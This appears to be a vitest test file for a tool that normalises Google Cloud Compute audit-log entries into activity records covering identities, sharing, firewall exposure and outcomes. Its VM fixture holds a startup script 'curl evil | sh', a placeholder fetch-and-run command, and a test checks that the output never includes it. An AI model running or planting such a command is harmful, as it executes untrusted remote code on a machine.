import { describe, expect, it } from 'vitest';
import {
  activity,
  disk,
  entry,
  first,
  head,
  instance,
  last,
  number,
  origin,
  project,
} from '../../../test/support/clouds/gcp-records.ts';
import type { Activity } from '../../activity/activity.ts';
import type { Json, JsonObject } from '../../core/json.ts';
import { gcp } from './definition.ts';

const insert = 'v1.compute.instances.insert';
const snapshot = `projects/${project}/global/snapshots/s1`;

const vm: JsonObject = {
  '@type': 'type.googleapis.com/compute.instances.insert',
  name: 'web-1',
  machineType: `projects/${project}/zones/europe-west1-b/machineTypes/a2-highgpu-1g`,
  disks: [
    { boot: true, initializeParams: { sourceImage: 'projects/debian-cloud/global/images/family/debian-12' } },
    { source: `https://www.googleapis.com/compute/v1/${disk}` },
  ],
  networkInterfaces: [{ accessConfigs: [{ name: 'External NAT' }] }],
  serviceAccounts: [{ email: `${number}-compute@developer.gserviceaccount.com`, scopes: ['cloud-platform'] }],
  guestAccelerators: [{ acceleratorType: 'nvidia-tesla-a100', acceleratorCount: '1' }],
  scheduling: { provisioningModel: 'SPOT' },
  labels: [{ key: 'ticket', value: 'OPS-123' }],
  metadata: { items: [{ key: 'startup-script', value: 'curl evil | sh' }] },
  deletionProtection: false,
};

describe('first and last entry', () => {
  const begin = first(insert, instance, vm);
  const end = last(insert, instance);
  const whole = activity(begin, end);

  it('become one Activity, whatever their order', () => {
    expect(whole).toMatchObject({
      verb: 'create',
      object: 'instance',
      outcome: 'success',
      time: Date.UTC(2026, 2, 1, 9, 14, 7, 123),
      endTime: Date.UTC(2026, 2, 1, 9, 14, 20),
      zone: 'europe-west1-b',
      region: 'europe-west1',
      change: { ticket: 'OPS-123' },
      correlation: { operationId: 'operation-1', requestId: 'first' },
      evidence: { records: 2 },
    });
    expect({ ...activity(end, begin), evidence: whole.evidence }).toEqual(whole);
  });

  it('tell what was made, and no script', () => {
    expect(whole.attrs).toEqual({
      instanceType: ['a2-highgpu-1g'],
      gpu: true,
      image: {
        id: 'projects/debian-cloud/global/images/family/debian-12',
        name: 'debian-12',
        project: 'debian-cloud',
      },
      spot: true,
      publicIp: true,
      metadataKeys: ['startup-script'],
      userData: true,
      role: `${number}-compute@developer.gserviceaccount.com`,
      tags: { ticket: 'OPS-123' },
    });
    expect(JSON.stringify(whole)).not.toContain('curl');
  });

  it('name resources in one form, and where they came from', () => {
    expect(whole.resources.map(({ role, type, id }) => [role, type, id])).toEqual([
      ['target', 'instance', instance],
      ['source', 'image', 'projects/debian-cloud/global/images/family/debian-12'],
      ['source', 'volume', disk],
    ]);
    expect(whole.edges).toEqual([
      { from: 'projects/debian-cloud/global/images/family/debian-12', to: instance, kind: 'instance<-image' },
      { from: disk, to: instance, kind: 'instance<-volume' },
    ]);
  });

  it('are pending without a last one, and a failure may stand on it alone', () => {
    expect(activity(begin).outcome).toBe('pending');
    const failed = activity(
      begin,
      last(insert, instance, { status: { code: 8, message: 'QUOTA_EXCEEDED' } }, { severity: 'ERROR' }),
    );
    expect(failed).toMatchObject({
      outcome: 'failure',
      error: { code: 'RESOURCE_EXHAUSTED', message: 'QUOTA_EXCEEDED' },
      edges: [],
    });
  });

  it('keep the delta that only the last one has', () => {
    const method = 'v1.compute.projects.setCommonInstanceMetadata';
    const delta = {
      projectMetadataDelta: { modifiedMetadataKeys: ['ssh-keys'], addedMetadataKeys: ['enable-oslogin'] },
    };
    const changed = activity(
      first(method, `projects/${number}`, { '@type': 'x', 'Metadata Keys Modified': [] }),
      last(method, `projects/${number}`, { metadata: { '@type': 'y', ...delta } }),
    );
    expect(changed).toMatchObject({
      object: 'setting',
      account: project,
      attrs: { metadataKeys: ['enable-oslogin', 'ssh-keys'] },
      resources: [{ id: `projects/${project}`, type: 'account' }],
    });
  });
});

describe('bulkInsert', () => {
  const method = 'v1.compute.instances.bulkInsert';
  const request = { count: '50', namePattern: 'm-##', instanceProperties: { machineType: 'a2-highgpu-8g' } };
  const parent = first(method, `projects/${project}/zones/europe-west1-b`, request);
  const child = (name: string): JsonObject =>
    entry(
      method,
      `projects/${project}/zones/europe-west1-b/instances/${name}`,
      { request: { '@type': 'x' } },
      {
        insertId: name,
        operation: { id: 'operation-1', producer: 'compute.googleapis.com', first: true, last: true },
      },
    );

  it('asks for a number', () => {
    expect(activity(parent)).toMatchObject({ outcome: 'pending', count: 50, attrs: { gpu: true } });
  });

  it('made what its entries name', () => {
    expect(activity(parent, child('m-01'), child('m-02'))).toMatchObject({
      outcome: 'success',
      count: 2,
      resources: [
        { role: 'target', type: 'instance', name: 'm-01' },
        { role: 'target', type: 'instance', name: 'm-02' },
        { role: 'parent' },
      ],
    });
  });

  const exhausted = (name: string): JsonObject => ({
    ...child(name),
    protoPayload: {
      ...(child(name)['protoPayload'] as JsonObject),
      status: { code: 8, message: 'no capacity' },
      response: { error: { code: 8 } },
    },
  });
  const targets = (made: Activity): unknown =>
    made.resources.filter(({ role }) => role === 'target').map(({ name }) => name);
  const ended = last(method, `projects/${project}/zones/europe-west1-b`);

  it.each([
    ['without the last entry', [parent, child('a'), child('b'), exhausted('c')]],
    ['with the last entry', [parent, child('a'), child('b'), exhausted('c'), ended]],
    ['without the first entry', [exhausted('c'), child('a'), child('b'), ended]],
    ['without the call', [exhausted('c'), child('a'), child('b')]],
    ['tried again', [parent, exhausted('a'), exhausted('c'), child('a'), child('b')]],
  ])('is a success although a part failed, %s', (_name, [one, ...others]) => {
    const made = activity(one as JsonObject, ...others);
    expect(made).toMatchObject({
      outcome: 'success',
      count: 2,
      error: { code: 'RESOURCE_EXHAUSTED', message: 'c: no capacity' },
    });
    expect(targets(made)).toEqual(['a', 'b']);
  });

  it('keeps the lineage of what was made', () => {
    const image = 'projects/debian-cloud/global/images/debian-12';
    const disks = [{ initializeParams: { sourceImage: image } }];
    const asked = first(method, `projects/${project}/zones/europe-west1-b`, {
      instanceProperties: { disks },
    });
    const made = activity(asked, child('a'), child('b'), exhausted('c'));
    const zone = `projects/${project}/zones/europe-west1-b`;
    expect(made.edges).toEqual([
      { kind: 'instance<-image', from: image, to: `${zone}/instances/a` },
      { kind: 'instance<-image', from: image, to: `${zone}/instances/b` },
    ]);
  });

  it('is a failure when the call failed, or everything', () => {
    const refused = last(method, `projects/${project}/zones/europe-west1-b`, {
      status: { code: 8, message: 'too few' },
    });
    expect(activity(parent, child('a'), exhausted('c'), refused)).toMatchObject({
      outcome: 'failure',
      error: { message: 'too few' },
    });
    const nothing = activity(parent, exhausted('a'), exhausted('c'));
    expect(nothing).toMatchObject({ outcome: 'failure', count: 2, edges: [] });
    expect(targets(nothing)).toEqual(['a', 'c']);
  });
});

it('a failure that says nothing of itself has no error', () => {
  const made = activity(entry('v1.compute.instances.stop', instance, {}, { severity: 'ERROR' }));
  expect(made.outcome).toBe('failure');
  expect(made).not.toHaveProperty('error');
});

describe('names', () => {
  it('createSnapshot is about the disk, and makes the snapshot', () => {
    const made = activity(
      first('v1.compute.disks.createSnapshot', disk, { name: 's1', storageLocations: ['eu'] }),
    );
    expect(made).toMatchObject({
      verb: 'create',
      object: 'snapshot',
      resources: [
        { role: 'target', type: 'snapshot', id: snapshot },
        { role: 'source', type: 'volume', id: disk },
      ],
      edges: [{ from: disk, to: snapshot, kind: 'snapshot<-volume' }],
    });
  });

  it('a snapshot that somebody outside makes has no target here', () => {
    const made = activity(
      entry('v1.compute.snapshots.insert', disk, {
        authenticationInfo: { principalEmail: 'eve@gmail.com', principalSubject: 'user:eve@gmail.com' },
        requestMetadata: {},
        metadata: { '@type': 'type.googleapis.com/google.cloud.audit.CrossEntityControlAuditMetadata' },
      }),
    );
    expect(made).toMatchObject({
      verb: 'create',
      source: { ipKind: 'absent' },
      attrs: { grantees: ['user:eve@gmail.com'] },
      resources: [{ role: 'source', type: 'volume', id: disk }, { role: 'grantee' }],
      edges: [],
      quality: { missing: ['target'] },
    });
  });

  it.each([
    ['a URL', `https://www.googleapis.com/compute/v1/${disk}`],
    ['another URL', `https://compute.googleapis.com/compute/beta/${disk}`],
    ['the asset form', `//compute.googleapis.com/${disk}`],
    ['the full name', disk],
    ['the name from the zone on', 'zones/europe-west1-b/disks/data-1'],
    ["the project's number", disk.replace(project, number)],
  ])('%s is the same disk', (_, source) => {
    const numbered = entry(
      'v1.compute.snapshots.insert',
      snapshot,
      { request: { sourceDisk: source } },
      {
        resource: { type: 'gce_snapshot', labels: { project_id: number, zone: 'europe-west1-b' } },
      },
    );
    expect(activity(numbered).edges).toEqual([{ from: disk, to: snapshot, kind: 'snapshot<-volume' }]);
  });

  it('of other projects keep their project', () => {
    const made = activity(
      entry('v1.compute.images.insert', `projects/${project}/global/images/i`, {
        request: { sourceImage: 'projects/other/global/images/x' },
      }),
    );
    expect(made.resources[1]).toMatchObject({ role: 'source', type: 'image', account: 'other' });
  });

  it("the project's id is preferred to its number", () => {
    const made = activity(
      entry(
        'SetIamPolicy',
        `projects/${number}`,
        { serviceName: 'cloudresourcemanager.googleapis.com' },
        { resource: { type: 'project', labels: { project_id: number } } },
      ),
    );
    expect(made).toMatchObject({ account: project, resources: [{ id: `projects/${project}` }] });
  });

  it('impersonation is about the account', () => {
    const made = activity(
      entry(
        'GenerateAccessToken',
        'projects/-/serviceAccounts/105711361070066902665',
        { serviceName: 'iamcredentials.googleapis.com' },
        {
          resource: {
            type: 'service_account',
            labels: { email_id: 'deploy@prod-app.iam.gserviceaccount.com' },
          },
        },
      ),
    );
    expect(made.resources).toMatchObject([
      { id: 'projects/-/serviceAccounts/deploy@prod-app.iam.gserviceaccount.com', type: 'iam' },
    ]);
  });
});

describe('who', () => {
  const who = (authenticationInfo: JsonObject, over: JsonObject = {}): Activity =>
    activity(entry(insert, instance, { authenticationInfo }, over));
  it.each<[string, JsonObject, JsonObject]>([
    [
      'a person',
      { principalEmail: 'a@example.com' },
      { key: 'gcp:user:a@example.com', type: 'user', session: 'abc123' },
    ],
    [
      'a service account with a key',
      {
        principalEmail: 'd@p.iam.gserviceaccount.com',
        serviceAccountKeyName: '//iam.googleapis.com/projects/p/serviceAccounts/d/keys/k1',
      },
      { key: 'gcp:serviceAccount:d@p.iam.gserviceaccount.com', type: 'service_account', session: 'k1' },
    ],
    [
      'the default account',
      { principalEmail: `${number}-compute@developer.gserviceaccount.com` },
      { type: 'default_service_account' },
    ],
    [
      'the agent of Google APIs',
      { principalEmail: `${number}@cloudservices.gserviceaccount.com` },
      { type: 'service' },
    ],
    [
      'a service agent',
      { principalEmail: `service-${number}@compute-system.iam.gserviceaccount.com` },
      { type: 'service' },
    ],
    [
      'an account that only looks like an agent',
      { principalEmail: `service-${number}@evil-project.iam.gserviceaccount.com` },
      { type: 'service_account' },
    ],
    [
      'a federated identity',
      {
        principalSubject:
          'principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/repo',
      },
      {
        key: 'gcp:principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/repo',
        type: 'federated',
      },
    ],
    ['Google', { principalEmail: 'system@google.com' }, { key: 'gcp:system@google.com', type: 'service' }],
    ['nobody', {}, { key: 'gcp:anonymous', type: 'anonymous' }],
  ])('%s', (_, info, expected) => {
    expect(who(info).principal).toMatchObject(expected);
  });

  it('stands behind an impersonated account, the nearest first', () => {
    const made = who({
      principalEmail: 'd@p.iam.gserviceaccount.com',
      serviceAccountDelegationInfo: [
        { principalSubject: 'user:alice@example.com' },
        { firstPartyPrincipal: { principalEmail: 'mid@p.iam.gserviceaccount.com' } },
      ],
    });
    expect(made.principal.via).toEqual([
      { key: 'gcp:serviceAccount:mid@p.iam.gserviceaccount.com', type: 'service_account' },
      { key: 'gcp:user:alice@example.com', type: 'user' },
    ]);
  });

  it('on the serial console stands in the request alone', () => {
    const made = activity(
      entry('google.ssh-serialport.v1.connect', instance, {
        authenticationInfo: {},
        request: { username: 'root' },
      }),
    );
    expect(made).toMatchObject({ verb: 'login', principal: { type: 'anonymous', name: 'root' } });
  });

  const agent = { principalEmail: `${number}@cloudservices.gserviceaccount.com` };
  it.each<[string, JsonObject, JsonObject, JsonObject | undefined]>([
    [
      'a managed group',
      {
        authenticationInfo: agent,
        requestMetadata: {},
        request: {
          ...vm,
          links: [
            { type: 'MEMBER_OF', source: `projects/${number}/zones/europe-west1-b/instanceGroupManagers/g` },
          ],
        },
      },
      {},
      { kind: 'autoscale' },
    ],
    [
      'GKE',
      {
        authenticationInfo: agent,
        requestMetadata: { callerSuppliedUserAgent: 'GCE Managed Instance Group for GKE' },
      },
      {},
      { kind: 'k8s' },
    ],
    [
      'a person with such a user agent',
      { requestMetadata: { callerSuppliedUserAgent: 'GCE Managed Instance Group for GKE' } },
      {},
      undefined,
    ],
    [
      'a system event',
      { methodName: 'compute.instances.preempted', authenticationInfo: {} },
      { logName: `projects/${project}/logs/cloudaudit.googleapis.com%2Fsystem_event` },
      { kind: 'platform' },
    ],
    [
      'the agent of Backup and DR',
      { authenticationInfo: { principalEmail: `service-${number}@gcp-sa-backupdr.iam.gserviceaccount.com` } },
      {},
      { kind: 'backup' },
    ],
    [
      'a service that delegated',
      {
        authenticationInfo: {
          principalEmail: 'd@p.iam.gserviceaccount.com',
          serviceAccountDelegationInfo: [
            {
              firstPartyPrincipal: {
                principalEmail: `service-${number}@gcp-sa-config.iam.gserviceaccount.com`,
              },
            },
          ],
        },
      },
      {},
      { kind: 'iac' },
    ],
  ])('%s', (_, payload, over, expected) => {
    const { automation } = activity(entry(insert, instance, payload, over));
    if (expected) expect(automation).toMatchObject(expected);
    else expect(automation).toBeUndefined();
  });

  it('resets a machine: Google in its log, a person in the other', () => {
    const system = { logName: `projects/${project}/logs/cloudaudit.googleapis.com%2Fsystem_event` };
    expect(
      activity(entry('compute.instances.reset', instance, { authenticationInfo: {} }, system)),
    ).toMatchObject({
      verb: 'restart',
      automation: { kind: 'platform' },
    });
    expect(activity(entry('v1.compute.instances.reset', instance)).automation).toBeUndefined();
  });

  it('links a machine to its group', () => {
    const links = [
      { type: 'MEMBER_OF', source: `projects/${number}/zones/europe-west1-b/instanceGroupManagers/g` },
    ];
    const made = activity(entry(insert, instance.replace(project, number), { request: { links } }));
    const group = `projects/${project}/zones/europe-west1-b/instanceGroupManagers/g`;
    expect(made.edges).toEqual([{ from: group, to: instance, kind: 'instance<-instance_group' }]);
    expect(made.resources[1]).toMatchObject({ role: 'parent', type: 'instance_group', id: group });
  });
});

describe('from where', () => {
  it.each<[Json, JsonObject]>([
    ['203.0.113.7', { ip: '203.0.113.7', ipKind: 'public' }],
    ['2001:db8::7', { ip: '2001:db8::7', ipKind: 'public' }],
    ['10.1.2.3', { ip: '10.1.2.3', ipKind: 'private' }],
    ['private', { ipKind: 'private' }],
    ['gce-internal-ip', { ipKind: 'private' }],
    ['<redacted>', { ipKind: 'absent' }],
    [null, { ipKind: 'absent' }],
  ])('%s', (callerIp, expected) => {
    const { source } = activity(entry(insert, instance, { requestMetadata: { callerIp } }));
    expect(source).toEqual(expected);
  });
});

describe('what became of it', () => {
  const failed = (status: JsonObject, over: JsonObject = {}): Activity =>
    activity(
      entry(
        insert,
        instance,
        { status, authorizationInfo: [{ permission: 'compute.instances.create', granted: false }] },
        over,
      ),
    );
  it.each<[string, Activity, JsonObject]>([
    ['an empty status', failed({}), { outcome: 'success' }],
    [
      '7',
      failed({ code: 7, message: 'PERMISSION_DENIED' }),
      {
        outcome: 'denied',
        error: { code: 'PERMISSION_DENIED' },
        attrs: { permission: 'compute.instances.create' },
      },
    ],
    ['8', failed({ code: 8 }), { outcome: 'failure', error: { code: 'RESOURCE_EXHAUSTED' } }],
    [
      'an error in the answer',
      activity(entry(insert, instance, { response: { error: { code: 403, message: 'no' } } })),
      { outcome: 'denied' },
    ],
    [
      'a severity alone',
      activity(entry(insert, instance, {}, { severity: 'ERROR' })),
      { outcome: 'failure' },
    ],
  ])('%s', (_, made, expected) => {
    expect(made).toMatchObject(expected);
  });
});

describe('sharing', () => {
  const share = (bindings: Json, payload: JsonObject = {}): Activity =>
    activity(
      entry('v1.compute.snapshots.setIamPolicy', snapshot, { request: { policy: { bindings } }, ...payload }),
    );
  const members = (...list: string[]): Json => [{ role: 'roles/compute.storageAdmin', members: list }];
  it.each<[string, Json, string, readonly string[] | undefined]>([
    ['a person outside', members('user:eve@gmail.com'), 'share', ['user:eve@gmail.com']],
    ['everybody', members('allUsers'), 'share', ['all']],
    ['everybody with an account', members('allAuthenticatedUsers'), 'share', ['all']],
    [
      'another project',
      members('serviceAccount:x@other.iam.gserviceaccount.com'),
      'share',
      ['serviceAccount:x@other.iam.gserviceaccount.com'],
    ],
    [
      'a pool of workloads',
      members('principalSet://iam.googleapis.com/projects/1/x'),
      'share',
      ['principalSet://iam.googleapis.com/projects/1/x'],
    ],
    ['a domain outside', members('domain:evil.example'), 'share', ['domain:evil.example']],
    [
      'a colleague',
      members(
        'user:bob@example.com',
        'group:ops@example.com',
        `serviceAccount:d@${project}.iam.gserviceaccount.com`,
      ),
      'modify',
      undefined,
    ],
    ['somebody who was deleted', members('deleted:user:x@gmail.com?uid=1'), 'modify', undefined],
    ['nobody', [], 'unshare', undefined],
  ])('with %s', (_, bindings, verb, grantees) => {
    const made = share(bindings);
    expect([made.verb, made.attrs.grantees]).toEqual([verb, grantees]);
  });

  it('between two people of a public mail domain is outside', () => {
    const made = share(members('user:eve@gmail.com'), {
      authenticationInfo: { principalEmail: 'owner@gmail.com' },
    });
    expect(made.attrs.grantees).toEqual(['user:eve@gmail.com']);
  });

  it.each<[string, JsonObject[], string, readonly string[]]>([
    [
      'an addition',
      [{ action: 'ADD', role: 'roles/owner', member: 'user:bob@example.com' }],
      'share',
      ['user:bob@example.com'],
    ],
    [
      'a removal',
      [{ action: 'REMOVE', role: 'roles/owner', member: 'user:eve@gmail.com' }],
      'unshare',
      ['user:eve@gmail.com'],
    ],
  ])('is what changed, where %s is logged', (_, bindingDeltas, verb, grantees) => {
    const made = share(members('user:eve@gmail.com', 'user:bob@example.com'), {
      serviceData: { policyDelta: { bindingDeltas } },
    });
    expect(made).toMatchObject({ verb, attrs: { grantees, role: 'roles/owner' } });
  });

  it('of a project is a change of access', () => {
    const made = activity(
      entry('SetIamPolicy', `projects/${project}`, {
        serviceName: 'cloudresourcemanager.googleapis.com',
        serviceData: {
          policyDelta: {
            bindingDeltas: [{ action: 'ADD', role: 'roles/editor', member: 'user:eve@gmail.com' }],
          },
        },
      }),
    );
    expect(made).toMatchObject({
      verb: 'modify',
      object: 'iam',
      attrs: { grantees: ['user:eve@gmail.com'], role: 'roles/editor' },
    });
  });
});

describe('settings', () => {
  const call = (method: string, request: JsonObject, name = instance): Activity =>
    activity(entry(method, name, { request }));
  it.each<[string, Activity, JsonObject]>([
    [
      'a startup script',
      activity(
        entry('v1.compute.instances.setMetadata', instance, {
          metadata: { instanceMetadataDelta: { addedMetadataKeys: ['startup-script-url'] } },
        }),
      ),
      { verb: 'modify', attrs: { metadataKeys: ['startup-script-url'], userData: true } },
    ],
    [
      'protection off',
      call('v1.compute.instances.setDeletionProtection', { deletionProtection: false }),
      { verb: 'unprotect', attrs: { protection: false } },
    ],
    [
      'protection on',
      call('v1.compute.instances.setDeletionProtection', { deletionProtection: true }),
      { verb: 'protect', attrs: { protection: true } },
    ],
    [
      'another account',
      call('v1.compute.instances.setServiceAccount', { email: 'a@b.iam.gserviceaccount.com' }),
      { attrs: { role: 'a@b.iam.gserviceaccount.com', changed: ['email'] } },
    ],
    [
      'labels as one object',
      call('v1.compute.instances.setLabels', { labels: { env: 'x' } }),
      { attrs: { tags: { env: 'x' } } },
    ],
    [
      'flow logs off',
      call(
        'v1.compute.subnetworks.patch',
        { enableFlowLogs: false },
        `projects/${project}/regions/europe-west1/subnetworks/s`,
      ),
      { verb: 'disable', region: 'europe-west1' },
    ],
    ['a preemptible machine', call(insert, { scheduling: { preemptible: true } }), { attrs: { spot: true } }],
    [
      'a group of ten',
      call(
        'v1.compute.instanceGroupManagers.insert',
        { targetSize: '10', instanceTemplate: 'global/instanceTemplates/t' },
        `projects/${project}/zones/europe-west1-b/instanceGroupManagers/g`,
      ),
      {
        count: 10,
        edges: [{ from: `projects/${project}/global/instanceTemplates/t`, kind: 'instance_group<-template' }],
      },
    ],
    [
      'machines of a group',
      call(
        'v1.compute.instanceGroupManagers.deleteInstances',
        { instances: ['zones/europe-west1-b/instances/a', 'zones/europe-west1-b/instances/b'] },
        `projects/${project}/zones/europe-west1-b/instanceGroupManagers/g`,
      ),
      {
        count: 2,
        resources: [
          { role: 'target', type: 'instance' },
          { role: 'target' },
          { role: 'parent', type: 'instance_group' },
        ],
      },
    ],
  ])('%s', (_, made, expected) => {
    expect(made).toMatchObject(expected);
  });

  const rule = `projects/${project}/global/firewalls/f`;
  const ssh = [{ IPProtocol: 'tcp', ports: ['22', '3389'] }];
  it.each<[string, JsonObject, readonly JsonObject[] | undefined]>([
    [
      'ranges and ports',
      { sourceRanges: ['0.0.0.0/0'], alloweds: ssh },
      [
        { cidr: '0.0.0.0/0', ports: '22' },
        { cidr: '0.0.0.0/0', ports: '3389' },
      ],
    ],
    ['no source at all', { allowed: [{ IPProtocol: 'all' }] }, [{ cidr: '0.0.0.0/0', ports: 'all' }]],
    ['tags as the source', { sourceTags: ['web'], alloweds: ssh }, undefined],
    ['a way out', { direction: 'EGRESS', sourceRanges: ['0.0.0.0/0'], alloweds: ssh }, undefined],
    ['a rule that is off', { disabled: true, sourceRanges: ['0.0.0.0/0'], alloweds: ssh }, undefined],
    ['a denial', { sourceRanges: ['0.0.0.0/0'], denieds: ssh }, undefined],
  ])('a firewall rule with %s', (_, request, expected) => {
    expect(call('v1.compute.firewalls.insert', request, rule).attrs.exposure).toEqual(expected);
  });
});

it('never throws, whatever the members hold', () => {
  const odd: readonly Json[] = [null, 7, 'x', [], {}, [[1]], [null], { code: {} }, '{'];
  const value = entry(insert, instance, { request: vm });
  const payload = value['protoPayload'] as JsonObject;
  for (const member of [
    'authenticationInfo',
    'requestMetadata',
    'request',
    'response',
    'metadata',
    'status',
    'resourceName',
    'serviceData',
    'authorizationInfo',
    'resourceLocation',
    'serviceName',
  ]) {
    for (const one of odd) {
      for (const method of [
        insert,
        'v1.compute.snapshots.setIamPolicy',
        'v1.compute.firewalls.insert',
        'unknown',
      ]) {
        const known = gcp.recognise(
          { ...value, protoPayload: { ...payload, methodName: method, [member]: one } },
          origin,
        );
        if (known && !('outcome' in known)) expect(() => gcp.normalise([known])).not.toThrow();
      }
    }
  }
  for (const member of [
    'logName',
    'resource',
    'operation',
    'labels',
    'insertId',
    'severity',
    'receiveTimestamp',
  ]) {
    for (const one of odd) {
      const known = gcp.recognise({ ...value, [member]: one }, origin);
      if (known && !('outcome' in known)) expect(() => gcp.normalise([known])).not.toThrow();
    }
  }
  expect(head(value).provider).toBe('gcp');
});
